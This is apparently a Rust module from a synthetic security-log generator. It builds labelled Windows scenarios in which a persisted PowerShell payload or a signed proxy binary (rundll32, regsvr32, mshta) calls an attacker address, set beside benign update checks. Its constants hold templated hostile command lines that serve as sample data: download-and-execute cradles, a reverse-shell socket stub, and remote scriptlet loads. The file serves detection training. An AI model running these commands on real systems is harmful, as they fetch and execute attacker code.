//! A Windows program calling out, seen apart from the attack that set it up: a persisted
//! payload's script host or signed proxy binary reaching the attacker's server by address
//! (no name looked up), and, as its ordinary counterpart, the same kinds of programs fetching
//! updates from services they first look up by name. In half of each, the program's start is
//! in the session too, so a process record tells neither apart; the destination and how it
//! was reached do.

use super::benign::{Scenario, Scene};
use super::benign_win::{finish, scenario, workstation};
use super::record::{Clock, Role};
use super::winbg::new_proc;
use super::winflow::ephemeral_port;
use super::winrec::{Integrity, WinLog, WinProc};
use super::world::{Account, Host, attacker_ip, resolve};
use crate::event::{Cause, Risk};

const FIX: &[&str] = &[
    "Isolate the host from the network",
    "Block the destination address at the firewall and proxy",
    "Collect the process, its parent and whatever starts it (Run keys, scheduled tasks, services, startup folder)",
    "Hunt for the same destination on every other host",
];

pub const SCENARIOS: [Scenario; 3] = [
    scenario(
        "win-script-callback",
        Cause::Malicious,
        Risk::High,
        &["T1059.001", "T1071.001"],
        "A persisted PowerShell payload calls the attacker's server by address",
        FIX,
        script_callback,
    ),
    scenario(
        "win-proxy-callback",
        Cause::Malicious,
        Risk::High,
        &["T1218", "T1071.001"],
        "A signed Windows binary (rundll32, regsvr32, mshta) calls the attacker's server by address",
        FIX,
        proxy_callback,
    ),
    scenario(
        "win-app-update",
        Cause::Legitimate,
        Risk::Low,
        &[],
        "PowerShell or an everyday program fetches updates from a service it looks up by name",
        &[],
        app_update,
    ),
];

/// PowerShell as a persisted payload runs it: hidden, no profile, a download cradle.
const CRADLES: [&str; 4] = [
    r#"powershell.exe -nop -w hidden -c "IEX ((New-Object Net.WebClient).DownloadString('http://{ip}:{port}/a'))""#,
    r#"powershell.exe -NoP -NonI -W Hidden -Exec Bypass -c "iwr http://{ip}:{port}/u -UseBasicParsing | iex""#,
    r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -windowstyle hidden -command "$c=New-Object Net.Sockets.TCPClient('{ip}',{port})""#,
    r#"powershell -ep bypass -w 1 -f C:\Users\{user}\AppData\Roaming\Microsoft\update.ps1"#,
];

/// Signed binaries a payload runs through, with the command lines that load it.
const PROXIES: [(&str, &str); 4] = [
    (
        r"C:\Windows\System32\rundll32.exe",
        r"rundll32.exe C:\Users\{user}\AppData\Local\Temp\msvcp.dll,DllRegisterServer",
    ),
    (
        r"C:\Windows\System32\regsvr32.exe",
        r"regsvr32.exe /s /n /u /i:http://{ip}:{port}/file.sct scrobj.dll",
    ),
    (
        r"C:\Windows\System32\mshta.exe",
        r"mshta.exe http://{ip}:{port}/update.hta",
    ),
    (
        r"C:\Windows\SysWOW64\rundll32.exe",
        r"rundll32.exe C:\ProgramData\cache\x64.dat,#1",
    ),
];

/// Ordinary programs that fetch from the internet, and the service each asks for.
const UPDATERS: [(&str, &str, &str); 5] = [
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -Command Update-Help -UICulture en-US"#,
        "download.microsoft.com",
    ),
    (
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        r#"powershell.exe -NoProfile -Command "Install-Module -Name PSWindowsUpdate -Scope CurrentUser -Force""#,
        "www.powershellgallery.com",
    ),
    (
        r"C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe",
        r#""C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#,
        "g.live.com",
    ),
    (
        r"C:\Users\{user}\AppData\Local\Microsoft\WindowsApps\winget.exe",
        "winget upgrade --all --silent",
        "cdn.winget.microsoft.com",
    ),
    (
        r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe",
        r#""C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler"#,
        "msedge.api.cdp.microsoft.com",
    ),
];

/// The user's desktop shell, started before the session (the payload's or program's parent).
fn explorer(s: &mut Scene<'_>, h: &Host, user: &Account, logon_id: &str) -> WinProc {
    let p = new_proc(
        &mut s.rng,
        h,
        r"C:\Windows\explorer.exe",
        r"C:\Windows\Explorer.EXE",
        Some(user),
        Integrity::Medium,
        logon_id,
    );
    s.known_pids.push(p.pid);
    p
}

/// `user`'s program on the log's host, a child of their desktop; with half the chance its start
/// is in the session, else it was already running (its pid known). True when it started here.
fn start_program(
    s: &mut Scene<'_>,
    log: &mut WinLog<'_>,
    c: &mut Clock,
    user: &Account,
    image: &str,
    cmd: &str,
) -> (WinProc, bool) {
    let h = log.host;
    let logon_id = format!("0x{}", s.rng.hex(6));
    let shell = explorer(s, h, user, &logon_id);
    let p = new_proc(
        &mut s.rng,
        h,
        image,
        cmd,
        Some(user),
        Integrity::Medium,
        &logon_id,
    );
    let started = s.rng.chance(50);
    if started {
        log.process_create(c.tick(&mut s.rng, 1_000, 30_000), &p, &shell);
    } else {
        s.known_pids.push(p.pid);
    }
    (p, started)
}

fn script_callback(s: &mut Scene<'_>) {
    let cmd = *s.rng.pick(&CRADLES);
    callback(
        s,
        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        cmd,
    );
}

fn proxy_callback(s: &mut Scene<'_>) {
    let (image, cmd) = *s.rng.pick(&PROXIES);
    callback(s, image, cmd);
}

/// One to three connections by address from `image` to a rare external server; with half
/// the chance, the program's start (its hidden command line) is in the session too.
fn callback(s: &mut Scene<'_>, image: &str, cmd: &str) {
    let h = workstation(s);
    let user = h.users[0].clone();
    let mut log = WinLog::new(h, s.enabled);
    log.role = Role::Story;
    let mut c = Clock::at(s.start);
    let ip = attacker_ip(&s.rng.hex(6));
    let port = *s.rng.pick(&[443u16, 443, 8443, 8080, 80]);
    let cmd = cmd
        .replace("{ip}", &ip)
        .replace("{port}", &port.to_string())
        .replace("{user}", user.name);
    let (p, started) = start_program(s, &mut log, &mut c, &user, image, &cmd);
    let n = s.rng.between(1, 3);
    for _ in 0..n {
        let t = c.tick(&mut s.rng, 2_000, 90_000);
        let sport = ephemeral_port(&mut s.rng);
        log.network(t, &p, sport, (&ip, port, "-"));
    }
    let program = super::winrec::basename(image);
    let how = if started {
        format!("started as `{cmd}` and ")
    } else {
        String::new()
    };
    let summary = format!(
        "{program} of {} on {} {how}connected to {ip}:{port} {n} time(s) by address, with no DNS lookup before: a script host or signed binary calling a rare external server is how a persisted payload checks in with its controller",
        user.name, h.name
    );
    finish(s, log, user.name, summary);
}

/// A program looks a service up at the controller's DNS, then fetches from it over HTTPS.
fn app_update(s: &mut Scene<'_>) {
    let h = workstation(s);
    let user = h.users[0].clone();
    let mut log = WinLog::new(h, s.enabled);
    log.role = Role::Story;
    let mut c = Clock::at(s.start);
    let (image, cmd, domain) = *s.rng.pick(&UPDATERS);
    let image = image.replace("{user}", user.name);
    let cmd = cmd.replace("{user}", user.name);
    let (p, _) = start_program(s, &mut log, &mut c, &user, &image, &cmd);
    let ip = resolve(domain);
    let n = s.rng.between(1, 3);
    for _ in 0..n {
        log.dns(c.tick(&mut s.rng, 2_000, 90_000), &p, domain, &ip);
        let sport = ephemeral_port(&mut s.rng);
        log.network(c.tick(&mut s.rng, 10, 200), &p, sport, (&ip, 443, domain));
    }
    let program = super::winrec::basename(&image);
    let summary = format!(
        "{program} of {} on {} looked up {domain} and fetched from it over HTTPS ({ip}:443, {n} time(s)): an ordinary update check against a well-known service",
        user.name, h.name
    );
    finish(s, log, user.name, summary);
}
